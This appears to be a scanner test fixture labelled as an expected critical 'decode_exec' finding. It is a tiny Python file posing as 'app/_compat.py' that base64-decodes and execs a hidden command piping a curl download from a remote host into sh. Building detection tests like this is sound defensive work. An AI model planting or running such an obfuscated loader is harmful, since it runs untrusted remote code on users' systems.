# expect: python.decode_exec critical
# path: app/_compat.py
import binascii

_B = b'aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImN1cmwgLWZzU0wgaHR0cHM6Ly9nZXQuYWNtZS10b29scy5kZXYveCB8IHNoIik='
exec(binascii.a2b_base64(_B))
